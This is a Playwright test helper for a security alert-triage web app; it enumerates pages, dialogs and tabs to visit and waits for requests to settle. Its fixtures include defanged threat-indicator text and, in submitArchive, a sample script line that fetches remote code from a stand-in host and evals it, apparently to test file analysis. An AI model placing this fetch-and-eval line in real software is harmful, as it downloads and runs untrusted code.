import { BlobWriter, TextReader, ZipWriter } from '@zip.js/zip.js';
import type { Locator, Page } from 'playwright-core';
import type { TestProgram } from '../../../src/testing/start-test-program.ts';
import { sendJson, someIdentifier } from '../alert-data.ts';
import { countRequests, pendingRequests } from './pending-requests.ts';
import { richAlert } from './rich-alert.ts';
import { surfaceStates } from './surface-states.ts';

/** A page to check. Without steps, or where it says so, each of its tabs is a state. */
export interface PageState {
  readonly name: string;
  readonly address: string;
  readonly steps?: (page: Page) => Promise<void>;
  /** True: the steps lead to a page with tabs. */
  readonly hasTabs?: boolean;
  /** Default 1280×720 pixels. */
  readonly size?: { readonly width: number; readonly height: number };
}

const WINDOW = { width: 1280, height: 720 };
const PHONE = { width: 390, height: 844 };
const WORST_ALERTS = '/alerts?q=howler.status%3Aopen&sort=event.severity%20desc';
const PASTED = `Received: from mail.example.org (192.0.2.7) by mx.example.com
The macro loads hxxps://login.example[.]org/update.bin (44d88612fea8a8f36de82e1278abb02f)
and then connects to 198.51.100.23 every 60 seconds.`;

/**
 * Returns every page in its states, for a program with the whole demo. The pages of the rail are
 * found, so that a new one is in the list without being named; open objects, editors and dialogues are named here.
 * @param page of an administrator
 */
export async function pageStates(program: TestProgram, page: Page): Promise<PageState[]> {
  const links = await page.getByRole('navigation').first().getByRole('link').all();
  const addresses = await Promise.all(links.map((link) => link.getAttribute('href')));
  const rail = addresses.flatMap((address) => (address === null ? [] : [{ name: nameOf(address), address }]));
  const first = (kind: string, ...path: readonly string[]) => someIdentifier(program, kind, ...path);
  const someCase = `/cases/${await first('case', 'case_id')}`;
  const alert = `/alerts/${await richAlert(program)}`;
  const view = `/views?id=${await ownView(program)}`;
  const caseWithRule = `/cases/${await withRule(program)}`;
  return [
    ...rail,
    { name: 'alert', address: alert },
    { name: 'alert-open', address: WORST_ALERTS, steps: openFirst },
    ...triageStates(),
    { name: 'phone-alerts', address: '/alerts', size: PHONE, steps: (page) => page.getByRole('grid').waitFor() },
    { name: 'phone-alert', address: WORST_ALERTS, size: PHONE, steps: openFirst },
    { name: 'case', address: someCase },
    { name: 'case-new', address: '/cases', steps: pressAndWait('Control+Alt+n') },
    { name: 'case-add-item', address: `${someCase}?tab=items`, steps: pressAndWait('Control+Alt+n') },
    { name: 'analytic', address: `/analytics/${await first('analytic', 'analytic_id')}` },
    { name: 'view-editor', address: view },
    { name: 'action-editor', address: `/actions?id=${await first('action', 'action_id')}` },
    { name: 'template-editor', address: `/templates?id=${await first('template', 'template_id')}` },
    { name: 'overview-editor', address: `/overviews?id=${await first('overview', 'overview_id')}` },
    { name: 'dossier-editor', address: `/dossiers?id=${await first('dossier', 'dossier_id')}` },
    { name: 'user', address: '/administration/users?id=user', steps: (page) => page.getByRole('dialog').waitFor() },
    { name: 'report', address: '/files', steps: openReport, hasTabs: true },
    { name: 'look-up', address: '/enrichment', steps: lookUp },
    { name: 'missing-page', address: '/nothing-here' },
    { name: 'missing-alert', address: '/alerts/nothing-here', steps: async () => {} },
    ...surfaceStates(program, { alert, caseWithRule, view }),
  ];
}

/** Returns a view that the administrator may change and delete. */
async function ownView(program: TestProgram): Promise<string> {
  const { items } = await sendJson(program, '/api/v1/search/view', { query: 'owner:admin AND type:global', rows: 1 });
  return items[0].view_id;
}

async function withRule(program: TestProgram): Promise<string> {
  const { items } = await sendJson(program, '/api/v1/search/case', { query: '_exists_:rules.rule_id', rows: 1 });
  return items[0].case_id;
}

/** Returns the dialogues and menus of an open alert, and those of every page. */
function triageStates(): PageState[] {
  const keys = { assess: 'a', assign: 'S', label: 'l', comment: 'c', 'file-into-case': 'm', 'run-action': 'r' };
  const shown = Object.entries({ ...keys, 'key-help': '?', palette: 'Control+k' });
  return shown.map(([name, key]) => ({
    name: name in keys ? `alert-${name}` : name,
    address: WORST_ALERTS,
    steps: async (page) => {
      await openFirst(page);
      await settle(page);
      await page.keyboard.press(key);
    },
  }));
}

/** Errors of the states of a missing page and of a conflict: an assessed alert is refused (400). */
export const EXPECTED_ERRORS = /400 .*\/transition$|404|409|412|WebSocket/;

/** Opens each state, and calls `visit` with its name once it is shown. */
export async function visitStates(
  page: Page,
  states: readonly PageState[],
  visit: (name: string, address: string) => Promise<void>,
): Promise<void> {
  countRequests(page.context());
  for (const { name, address, steps, hasTabs = steps === undefined, size = WINDOW } of states) {
    await page.setViewportSize(size);
    await page.goto(address);
    // A dialogue hides the heading from readers.
    await page.locator('h1').first().waitFor();
    await settle(page);
    await steps?.(page);
    const tabs = hasTabs ? await tabsOf(page) : [];
    if (tabs.length === 0) {
      await settle(page);
      await visit(name, address);
    }
    for (const [index, tab] of tabs.entries()) {
      await page.setViewportSize(size);
      await tab.click();
      await settle(page);
      // In the order of the tabs, regardless of the language.
      await visit(`${name}-${index + 1}`, address);
    }
  }
}

function tabsOf(page: Page): Promise<Locator[]> {
  return page.getByRole('tablist').first().getByRole('tab').all();
}

/** Milliseconds without a request after which a page has what it asked for. */
const QUIET = 300;
const TIMEOUT = 60_000;

/** Waits until a page shows what it asked for. A tab asks after it was opened, without a navigation. */
export async function settle(page: Page): Promise<void> {
  const pending = pendingRequests(page.context());
  const end = performance.now() + TIMEOUT;
  for (let quietSince = performance.now(); performance.now() - quietSince < QUIET; ) {
    await page.waitForTimeout(50);
    if (pending.size > 0) quietSince = performance.now();
    if (performance.now() > end) throw new Error(`No answer to ${[...pending].map((one) => one.url()).join(' ')}`);
  }
  await page
    .getByText(/^(?:Loading|Chargement)/)
    .first()
    .waitFor({ state: 'hidden' });
}

function nameOf(address: string): string {
  return address.slice(1).replaceAll('/', '-') || 'home';
}

async function openFirst(page: Page): Promise<void> {
  await page.getByRole('grid').waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  await page.getByRole('tablist').first().waitFor();
}

function pressAndWait(keys: string): (page: Page) => Promise<void> {
  return async (page) => {
    await page.keyboard.press(keys);
    await page.getByRole('dialog').waitFor();
  };
}

async function openReport(page: Page): Promise<void> {
  await page.getByRole('grid').getByRole('row').nth(1).dblclick();
  await page.getByRole('treeitem').first().waitFor();
}

async function lookUp(page: Page): Promise<void> {
  await page.getByRole('textbox').fill(PASTED);
  await page.keyboard.press('Control+Enter');
  await page.locator('mark').first().waitFor();
}

/** Submits an archive, and waits for its report: the demo has none. @param page signed in */
export async function submitArchive(page: Page): Promise<void> {
  const zip = new ZipWriter(new BlobWriter('application/zip'));
  await zip.add('invoice.txt', new TextReader(PASTED));
  await zip.add('script.js', new TextReader('fetch("https://login.example.org/update.bin").then(eval)'));
  const buffer = Buffer.from(await (await zip.close()).arrayBuffer());
  await page.goto('/files');
  await page.locator('input[type=file]').setInputFiles({ name: 'invoice.zip', mimeType: 'application/zip', buffer });
  await page.waitForURL(/\/files\/./);
  await page.getByRole('treeitem').nth(1).waitFor();
}
